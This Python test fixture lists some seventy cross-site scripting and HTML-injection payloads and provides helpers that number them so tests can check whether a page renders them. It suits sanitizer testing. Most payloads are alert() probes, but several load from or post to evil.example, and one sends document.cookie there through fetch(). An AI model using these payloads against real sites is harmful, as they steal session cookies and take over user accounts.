"""Known texts by which pages were made to run what they should show. Each would raise an alert, ask another site, or add an
element named `injected`. {} is the number of the payload."""

from __future__ import annotations

PAYLOADS = [
    "<script>alert({})</script>",
    "<ScRiPt>alert({})</sCrIpT>",
    "<script src=https://evil.example/{}.js></script>",
    "<script src=//evil.example/{}.js></script>",
    "<script>/*{}*/window.injected=1</script>",
    "</script><script>alert({})</script>",
    "<scr<script>ipt>alert({})</scr</script>ipt>",
    "<script type=module>alert({})</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert({})>\">",
    "<img src=x onerror=alert({})>",
    "<img src=x onerror=alert({})//",
    "<img src='https://evil.example/{}.png'>",
    "<IMG SRC=javascript:alert({})>",
    "<img srcset='https://evil.example/{}.png 1x'>",
    "<image src=x onerror=alert({})>",
    "<svg onload=alert({})>",
    "<svg/onload=alert({})>",
    "<svg><script>alert({})</script></svg>",
    "<svg><a xlink:href='javascript:alert({})'><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert({}) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert({})>#x'/>",
    "<svg><foreignObject><iframe srcdoc='<script>alert({})</script>'></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert({})>",
    "<math href='javascript:alert({})'>x</math>",
    "<body onload=alert({})>",
    "<iframe src=javascript:alert({})>",
    "<iframe srcdoc='<script>parent.alert({})</script>'>",
    "<iframe src=https://evil.example/{}></iframe>",
    "<object data=https://evil.example/{}></object>",
    "<embed src=https://evil.example/{}>",
    "<link rel=stylesheet href=https://evil.example/{}.css>",
    "<link rel=prefetch href=https://evil.example/{}>",
    "<style>@import 'https://evil.example/{}.css';</style>",
    "<style>body{{background:url(https://evil.example/{}.png)}}</style>",
    "<div style='background:url(https://evil.example/{}.png)'>x</div>",
    "<div style=width:expression(alert({}))>x</div>",
    "<base href=https://evil.example/{}/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/{}'>",
    "<form action=https://evil.example/{}><button id=injected>Sign in</button></form>",
    "<input autofocus onfocus=alert({})>",
    "<select autofocus onfocus=alert({})>",
    "<textarea autofocus onfocus=alert({})>",
    "<details open ontoggle=alert({})>",
    "<video><source onerror=alert({})></video>",
    "<audio src=x onerror=alert({})>",
    "<marquee onstart=alert({})>",
    "<p id=injected class=injected>{}</p>",
    "<a href='javascript:alert({})' id=injected>click</a>",
    "<template><img src=x onerror=alert({})></template>",
    "<!--><img src=x onerror=alert({})>-->",
    "<![CDATA[><img src=x onerror=alert({})>]]>",
    "\"><img src=x onerror=alert({})>",
    "'><img src=x onerror=alert({})>",
    "\" onmouseover=alert({}) x=\"",
    "' autofocus onfocus=alert({}) x='",
    "`${{alert({})}}`",
    "${{alert({})}}",
    "{{{{constructor.constructor('alert({})')()}}}}",
    "javascript:alert({})",
    "java\tscript:alert({})",
    "data:text/html,<script>alert({})</script>",
    "[click](javascript:alert({}))",
    "![x](https://evil.example/{}.png)",
    "&lt;img src=x onerror=alert({})&gt;",
    "&#60;img src=x onerror=alert({})&#62;",
    "\\u003cimg src=x onerror=alert({})\\u003e",
    "\x00<img src=x onerror=alert({})>",
    "\u202e<img src=x onerror=alert({})>",
    "\x1b[31m<img src=x onerror=alert({})>\x1b[0m\x1b]8;;https://evil.example/\x07link\x1b]8;;\x07",
    "diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-<img src=x onerror=alert({})>\n+<script>alert({})</script>",
    "<img src=x onerror=\"fetch('https://evil.example/'+document.cookie)\" alt={}>",
    "<div popover id=injected onbeforetoggle=alert({}) style=display:block>x</div>",
    "__proto__ <img src=x onerror=alert({})>",
]  # fmt: skip


IN_ONE = 3
TEXTS = -(-len(PAYLOADS) // IN_ONE)


def payload(number: int) -> str:
    """Return a payload after a mark, by which a test finds it on the page."""
    text = PAYLOADS[number % len(PAYLOADS)].replace("{{", "{").replace("}}", "}").replace("{}", str(number))
    return f"⟦{number}⟧{text}"


def hostile_text(number: int) -> str:
    """Return a text with some payloads; the texts from 0 to TEXTS - 1 have all of them."""
    return " ".join(payload((IN_ONE * number + i) % len(PAYLOADS)) for i in range(IN_ONE))
